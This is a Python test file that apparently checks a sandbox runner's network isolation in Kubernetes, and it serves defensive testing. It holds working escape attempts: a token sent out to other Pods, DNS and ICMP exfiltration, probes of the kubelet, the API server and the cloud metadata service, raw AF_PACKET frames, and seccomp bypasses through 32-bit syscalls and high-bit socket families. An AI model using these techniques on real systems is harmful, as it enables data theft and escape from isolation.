"""Every way out over a socket. The program may open none but AF_UNIX (the runner's filter); whoever got round that would
meet the namespace's NetworkPolicy, and a verdict would not be passed before it was proved to hold."""

from tests.attack.attack import (
    Attack,
    Bare,
    Evidence,
    Predicate,
    c,
    either,
    heard,
    holds,
    python,
    sent,
)

_FILTER = "the runner's filter refuses every socket family but AF_UNIX; behind it the deny-all NetworkPolicy"
_POD = "the same program in a Pod without runner and NetworkPolicy"

_TCP = """
    def reach(host, port, words):
        line = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        line.settimeout(4)
        line.bind(("", 33333))
        line.connect((host, port))
        line.sendall(words.encode())
        return line.recv(2000)
    print(repr(attempt(reach, "{host}", {port}, {words})))
"""

# Tries again for a while: a fresh Pod is not isolated at once.
_INSIST = """
    def reach(host, port, kind):
        line = socket.socket(socket.AF_INET, kind)
        line.settimeout(1)
        line.connect((host, port))
        line.sendall(token.encode())
        return line.recv(2000)
    until = time.time() + 4
    while time.time() < until:
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            print(repr(attempt(reach, "@LISTENER@", 8080, kind)))
        time.sleep(0.02)
"""


def _tcp(host: str, port: int, words: str = "token") -> str:
    return python(_TCP.format(host=host, port=port, words=words))


def _took(e: Evidence) -> bool:
    """Somebody took the connection that it made from port 33333."""
    return any(p.target == e.address and p.target_port == 33333 and p.flags & 0x12 == 0x12 for p in e.packets)


def _to(address: str) -> Predicate:
    return lambda e: any(p.target == address and p.source == e.address for p in e.packets)


_FAMILIES = """
    names = [n for n in range(1, 46) if n != socket.AF_UNIX]
    kept = []
    for family in names:
        for kind in (1, 2, 3, 5):
            for number in (0, 1, 6, 17, 58, 132, 262):
                for wide in (0, 1 << 32):
                    made = call(41, family | wide, kind, number)
                    if made >= 0:
                        kept.append((family, kind, number, made))
            pair = (ctypes.c_int * 2)()
            if call(53, family, kind, 0, ctypes.byref(pair)) == 0:
                kept.append((family, "pair"))
        if len(kept) > 200:
            break
    print(kept)
    tried()
"""

_COMPAT = r"""
    /* socketcall(SYS_SOCKET, {AF_INET, SOCK_STREAM, 0}) and socket(2) of the 32-bit interface, numbers 102 and 359. */
    int main(void) {
        unsigned *args = mmap((void *)0x10000, 4096, 3, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
        int one = -1, two = -1;
        if (args != MAP_FAILED) {
            args[0] = 2; args[1] = 1; args[2] = 0;
            __asm__ volatile("int $0x80" : "=a"(one) : "a"(102), "b"(1), "c"((unsigned)(uintptr_t)args) : "memory", "r8", "r9", "r10", "r11");
            __asm__ volatile("int $0x80" : "=a"(two) : "a"(359), "b"(2), "c"(1), "d"(0) : "memory", "r8", "r9", "r10", "r11");
        }
        printf("%d %d\n", one, two);
        tried();
        return 0;
    }
"""

ATTACKS = [
    Attack(
        id="network-tcp-pod",
        tries="Opens a TCP connection to another Pod and sends it a word.",
        stopped_by=_FILTER,
        program=_tcp("@LISTENER@", 8080),
        worked=heard,
        control=Bare(f"{_POD}: the listening Pod hears the word"),
    ),
    Attack(
        id="network-udp-pod",
        tries="Sends a UDP datagram to another Pod.",
        stopped_by=_FILTER,
        program=python("""
            def send():
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
                    for _ in range(5):
                        out.sendto(token.encode(), ("@LISTENER@", 8080))
                        time.sleep(0.05)
            print(repr(attempt(send)))
        """),
        worked=either(heard, sent),
        control=Bare(f"{_POD}: the listening Pod hears the word"),
    ),
    Attack(
        id="network-api-server",
        tries="Connects to the API server's service address.",
        stopped_by=_FILTER,
        program=_tcp("@API@", 443, '"GET / HTTP/1.0\\r\\n\\r\\n"'),
        worked=_took,
        control=Bare(f"{_POD}: the API server takes the connection"),
    ),
    Attack(
        id="network-api-server-by-node",
        tries="Connects to the API server past its service, at the node's own address.",
        stopped_by=_FILTER,
        program=_tcp("@NODE@", 6443, '"GET / HTTP/1.0\\r\\n\\r\\n"'),
        worked=_took,
        control=Bare(f"{_POD}: the API server takes the connection"),
    ),
    Attack(
        id="network-kubelet",
        tries="Connects to the kubelet of its node.",
        stopped_by=_FILTER,
        program=_tcp("@NODE@", 10250),
        worked=_took,
        control=Bare(f"{_POD}: the kubelet takes the connection"),
    ),
    Attack(
        id="network-metadata",
        tries="Asks the metadata service of a cloud machine, by TCP and UDP.",
        stopped_by=_FILTER,
        program=python("""
            def tcp():
                with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as line:
                    line.settimeout(1)
                    line.connect(("169.254.169.254", 80))
            def udp():
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
                    line.sendto(token.encode(), ("169.254.169.254", 80))
            print(repr(attempt(tcp)), repr(attempt(udp)))
        """),
        worked=_to("169.254.169.254"),
        control=Bare(f"{_POD}: its packets to that address are seen on the node"),
    ),
    Attack(
        id="network-dns",
        tries="Smuggles a word out in a DNS query to the cluster's name service.",
        stopped_by=_FILTER,
        program=python("""
            name = b"".join(bytes([len(part)]) + part for part in (token.encode(), b"example", b"com")) + b"\\0"
            def ask():
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
                    out.settimeout(2)
                    out.sendto(b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + name + b"\\0\\1\\0\\1", ("@DNS@", 53))
                    return out.recv(512)
            print(repr(attempt(ask)), repr(attempt(socket.gethostbyname, token + ".default.svc.cluster.local")))
        """),
        worked=sent,
        control=Bare(f"{_POD}: the query with the word is seen on the node"),
    ),
    Attack(
        id="network-ping",
        tries="Sends a word in an ICMP echo request, by a ping socket and by a raw one.",
        stopped_by=_FILTER,
        program=python("""
            packet = b"\\x08\\0" + bytes(6) + token.encode().ljust(18, b".")
            total = sum(struct.unpack("!13H", packet))
            total = (total >> 16) + (total & 0xffff)
            packet = packet[:2] + struct.pack("!H", ~(total + (total >> 16)) & 0xffff) + packet[4:]
            for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
                def send():
                    with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as out:
                        return out.sendto(packet, ("@LISTENER@", 0))
                print(repr(attempt(send)))
        """),
        worked=sent,
        control=Bare(
            f"{_POD}, as root with CAP_NET_RAW: the echo request is seen", root=True, capabilities=("NET_RAW",)
        ),
    ),
    Attack(
        id="network-packet",
        tries="Writes a frame of its own onto the Pod's interface through AF_PACKET.",
        stopped_by=_FILTER + "; and CAP_NET_RAW is not there",
        program=python("""
            word = token.encode()
            udp = struct.pack("!4H", 9999, 9999, 8 + len(word), 0) + word
            ip = struct.pack("!BBHHHBBH4s4s", 69, 0, 20 + len(udp), 1, 0, 64, 17, 0, bytes([10, 9, 8, 7]), bytes([255] * 4))
            def send():
                with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x800)) as out:
                    out.bind(("eth0", 0x800))
                    return out.send(b"\\xff" * 6 + b"\\2\\0\\0\\0\\0\\1" + b"\\x08\\0" + ip + udp)
            print(repr(attempt(send)))
        """),
        worked=sent,
        control=Bare(f"{_POD}, as root with CAP_NET_RAW: the frame is seen", root=True, capabilities=("NET_RAW",)),
    ),
    Attack(
        id="network-ipv6",
        tries="Sends a word to every neighbour by IPv6 multicast.",
        stopped_by=_FILTER,
        program=python("""
            def send():
                with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as out:
                    return out.sendto(token.encode(), ("ff02::1", 9999, 0, 2))
            for _ in range(15):
                done = attempt(send)
                if done == len(token):
                    break
                time.sleep(0.1)
            print(repr(done))
        """),
        worked=sent,
        control=Bare(f"{_POD}: the datagram is seen on the node"),
    ),
    Attack(
        id="network-every-family",
        tries="Opens sockets and socket pairs of all 45 families, of every type, and with bits set above the number that the "
        "kernel looks at.",
        stopped_by="the runner's filter compares the low 32 bits, as the kernel does",
        program=python(_FAMILIES),
        worked=holds("socket:"),
        control=Bare(f"{_POD}, seccomp Unconfined: the node shows its sockets", seccomp="Unconfined"),
        watched=True,
    ),
    Attack(
        id="network-32-bit-calls",
        tries="Opens sockets through the 32-bit system-call interface (int 0x80), where numbers mean something else.",
        stopped_by="the runner's filter checks the architecture first and answers every foreign call with ENOSYS",
        language="c",
        program=c(_COMPAT),
        worked=holds("socket:"),
        control=Bare(f"{_POD}: the container runtime's own profile lets them through"),
        watched=True,
    ),
    Attack(
        id="network-abstract-socket",
        tries="Connects to an abstract unix socket outside of the sandboxed step, in the same network.",
        stopped_by="Landlock scope: abstract sockets of others cannot be reached",
        program=python("""
            until = time.time() + 5
            def reach():
                with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as line:
                    line.connect("\\0" + token)
            while time.time() < until:
                done = attempt(reach)
                if done is None:
                    break
                time.sleep(0.02)
            print(repr(done))
        """),
        worked=lambda e: e.companion,
        control=Bare(f"{_POD}: the same listener, put into the Pod's network from the node, has a visitor"),
        companion="listen",
    ),
    Attack(
        id="network-granted-other-pods",
        tries="Has been granted the network, and tries from its first moment on to reach another Pod.",
        stopped_by="the NetworkPolicy for granted sandboxes leaves out private addresses, and the runner waits until it is "
        "in force before it starts anything",
        program=python(_INSIST),
        spec={"access": {"network": True}},
        worked=heard,
        control=Bare(f"{_POD}: the listening Pod hears the word"),
    ),
    Attack(
        id="network-granted-cluster",
        tries="Has been granted the network, and tries from its first moment on to reach the API server, the kubelet and the "
        "metadata service.",
        stopped_by="the NetworkPolicy for granted sandboxes leaves out private and link-local addresses",
        program=python("""
            until, port = time.time() + 4, 33333
            while time.time() < until:
                for host, to in (("@API@", 443), ("@NODE@", 6443), ("@NODE@", 10250), ("@NODE@", 2379)):
                    line = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                    line.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                    line.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                    line.settimeout(0.3)
                    line.bind(("", 33333))
                    print(host, to, repr(attempt(line.connect, (host, to))))
                    line.close()
        """),
        spec={"access": {"network": True}},
        worked=_took,
        control=Bare(f"{_POD}: API server and kubelet take the connections"),
    ),
    Attack(
        id="network-granted-visitors",
        tries="Has been granted the network, and serves whoever calls it from another Pod.",
        stopped_by="the NetworkPolicies grant no ingress",
        program=python("""
            def serve():
                door = socket.create_server(("", 8088))
                door.settimeout(0.5)
                until = time.time() + 6
                while time.time() < until:
                    guest = attempt(door.accept)
                    if isinstance(guest, tuple):
                        guest[0].sendall(token.encode())
                        guest[0].close()
            print(repr(attempt(serve)))
        """),
        spec={"access": {"network": True}},
        worked=lambda e: e.companion,
        control=Bare(f"{_POD}: the caller is served"),
        companion="call",
    ),
    Attack(
        id="network-granted-families",
        tries="Has been granted the network, and opens sockets that this does not mean: netlink, packet, raw, ICMP, vsock, "
        "AF_ALG, SCTP.",
        stopped_by="the runner's filter lets AF_INET and AF_INET6 through for TCP and UDP only",
        program=python("""
            kept = []
            for family in range(1, 46):
                for kind in (1, 2, 3, 5):
                    for number in (0, 1, 58, 132):
                        if family == 1 or (family in (2, 10) and kind in (1, 2) and number == 0):
                            continue
                        made = call(41, family, kind, number)
                        if made >= 0:
                            kept.append((family, kind, number))
            print(kept)
            tried()
        """),
        spec={"access": {"network": True}},
        worked=holds("socket:"),
        control=Bare(f"{_POD}, seccomp Unconfined: the node shows its sockets", seccomp="Unconfined"),
        watched=True,
    ),
]
